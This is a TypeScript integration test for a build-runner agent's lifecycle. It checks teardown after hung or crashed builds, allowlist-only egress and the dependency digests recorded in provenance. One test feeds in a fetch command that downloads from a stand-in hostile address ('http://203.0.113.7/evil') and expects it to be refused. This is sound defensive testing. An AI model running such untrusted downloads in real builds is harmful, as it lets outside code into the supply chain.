/**
 * The runner lifecycle end to end through the agent: every job records provision → measure →
 * attest → fetch → build → collect → destroy → revoke, a build that hangs, crashes or is killed
 * still reaches destroy and revoke, and the fetch phase reaches only allowlisted hosts through
 * the agent's egress proxy, whose digests land in the provenance.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { runJob } from '../../src/agent/agent.ts';
import { initHome, type OpenHome, openHome } from '../../src/home/home.ts';
import { LocalGitProvider } from '../../src/source/local-git-provider.ts';
import { closeServer, copyExample, listenOnLoopback, tempDir } from '../helpers.ts';

const PAYLOAD = Buffer.from('a dependency tarball\n');

describe('runner lifecycle', () => {
  const tmp = tempDir('lifecycle');
  let home: OpenHome;
  let registry: Server;
  let port = 0;
  let requests = 0;

  before(async () => {
    registry = createServer((req, res) => {
      requests++;
      if (req.url === '/dep.tgz') res.end(PAYLOAD);
      else res.writeHead(404).end();
    });
    ({ port } = await listenOnLoopback(registry));
    const root = join(tmp.path, 'home');
    await initHome(root);
    // The central allowlist names only the test's "registry".
    const configPath = join(root, 'config.json');
    const config = JSON.parse(await readFile(configPath, 'utf8')) as { runner: Record<string, unknown> };
    config.runner.egressAllow = [`http://127.0.0.1:${port}`];
    await writeFile(configPath, JSON.stringify(config));
    home = await openHome(root);
  });
  after(async () => {
    await home.close();
    await closeServer(registry);
    tmp.cleanup();
  });

  const project = async (name: string, yaml: string): Promise<string> => {
    const dir = copyExample('hello-app', join(tmp.path, name));
    await writeFile(join(dir, 'gatehouse.yaml'), yaml);
    return dir;
  };
  const run = (dir: string) =>
    runJob(dir, {
      runner: home.runner,
      attester: home.attester,
      host: home.host,
      controlPlane: home.controlPlane,
      source: new LocalGitProvider(),
    });

  it('fetches only through the allowlist and records digests in the provenance', async () => {
    const dir = await project(
      'fetching',
      `project: hello-app\nfetch:\n  command: "curl -sf http://127.0.0.1:${port}/dep.tgz -o dep.tgz"\nbuild:\n  command: ["sh", "build.sh"]\noutputs: [dist/hello-app.tar]\n`,
    );
    const outcome = await run(dir);
    assert.equal(outcome.failure, undefined, JSON.stringify(outcome.failure));
    assert.deepEqual(
      outcome.steps.map((s) => s.name).filter((n) => n !== 'source' && n !== 'sbom' && n !== 'gate'),
      ['provision', 'measure', 'attest', 'fetch', 'build', 'collect', 'destroy', 'revoke'],
    );
    assert.ok(outcome.steps.every((s) => s.ok && typeof s.durationMs === 'number' && s.startedAt !== ''));
    assert.match(outcome.steps.find((s) => s.name === 'fetch')?.detail ?? '', /^1 artifacts fetched/);
    const bundle = outcome.result?.bundle as { dsseEnvelope?: { payload: string } } | undefined;
    if (outcome.result?.outcome === 'allow' && bundle?.dsseEnvelope !== undefined) {
      const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString()) as {
        predicate: {
          buildDefinition: { resolvedDependencies: { uri: string; digest: { sha256?: string } }[] };
        };
      };
      const dep = statement.predicate.buildDefinition.resolvedDependencies.find((d) =>
        d.uri.endsWith('/dep.tgz'),
      );
      assert.equal(dep?.digest.sha256, createHash('sha256').update(PAYLOAD).digest('hex'));
    }
  });

  it('refuses a host that is not on the allowlist and fails the job with that reason', async () => {
    const before = requests;
    const dir = await project(
      'refused',
      'project: hello-app\nfetch:\n  command: "curl -sf http://203.0.113.7/evil -o x"\nbuild:\n  command: ["sh", "build.sh"]\noutputs: [dist/hello-app.tar]\n',
    );
    const outcome = await run(dir);
    assert.equal(outcome.failure?.code, 'FETCH_FAILED');
    assert.match(outcome.failure?.message ?? '', /203\.0\.113\.7 is not on the egress allowlist/);
    assert.equal(requests, before);
    assert.deepEqual(
      outcome.steps.slice(-2).map((s) => s.name),
      ['destroy', 'revoke'],
    );
  });

  for (const [what, command, code] of [
    ['hangs', 'sleep 600', 'BUILD_TIMEOUT'],
    ['crashes', 'kill -SEGV $$', 'BUILD_FAILED'],
    ['is killed', 'kill -KILL $$', 'BUILD_FAILED'],
  ] as const) {
    it(`reaches destroy and revoke when the build ${what}`, async () => {
      const dir = await project(
        `dies-${code}-${what.length}`,
        `project: hello-app\nbuild:\n  command: "${command}"\n  timeout: 1\noutputs: [dist/hello-app.tar]\n`,
      );
      const outcome = await run(dir);
      assert.equal(outcome.failure?.code, code);
      const names = outcome.steps.map((s) => s.name);
      assert.deepEqual(names.slice(-2), ['destroy', 'revoke']);
      assert.ok(outcome.steps.slice(-2).every((s) => s.ok));
      const job = await home.controlPlane.getJob(outcome.jobId);
      assert.equal(job.state, 'failed');
      assert.ok(job.steps.some((s) => s.name === 'build' && !s.ok));
    });
  }

  it('reports runner metrics', async () => {
    const text = await home.controlPlane.metricsText();
    assert.match(text, /^gatehouse_builds_started_total [1-9]/m);
    assert.match(text, /^gatehouse_builds_ephemeral_share 1$/m);
    assert.match(text, /^gatehouse_runner_provisioning_seconds_count [1-9]/m);
    assert.match(text, /^gatehouse_runner_teardown_seconds_bucket\{le="\+Inf"\} [1-9]/m);
    assert.match(text, /^gatehouse_runner_failures_total\{reason="build_timeout"\} 1$/m);
    assert.match(text, /^gatehouse_runner_failures_total\{reason="egress_refused"\} 1$/m);
  });
});
